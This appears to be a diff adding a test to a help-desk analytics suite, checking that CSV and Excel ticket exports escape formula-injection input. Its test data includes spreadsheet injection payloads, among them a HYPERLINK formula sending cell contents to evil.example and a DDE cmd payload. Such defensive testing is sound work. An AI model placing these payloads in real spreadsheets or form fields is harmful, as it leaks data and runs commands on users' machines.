@@ -138,3 +138,18 @@ def test_a_manager_exports_last_week_by_agent_to_excel_in_chinese(
         302,
         403,
     )
+
+
+def test_text_a_spreadsheet_would_run_is_exported_as_text(analytics: Any, make_user: Any, new_ticket: Any) -> None:
+    supervisor = make_user("supervisor")[1]
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"退款")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
+    for subject in attacks:
+        new_ticket(subject, channel="web", customer={"name": "\t=1+1", "phone": "13800000000"})
+    answer = supervisor.get("/api/v1/reports/tickets/export?format=csv&columns=number,subject,customer_name")
+    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))[1:]
+    assert sorted(r[1] for r in rows) == sorted("'" + s for s in attacks)
+    assert {r[2] for r in rows} == {"'\t=1+1"}
+    assert all(r[0].isdigit() for r in rows)  # numbers stay numbers
+    excel = supervisor.get("/api/v1/reports/tickets/export?format=xlsx&columns=subject")
+    sheet = zipfile.ZipFile(io.BytesIO(excel.get_data())).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # Excel cells are written as strings, never formulas
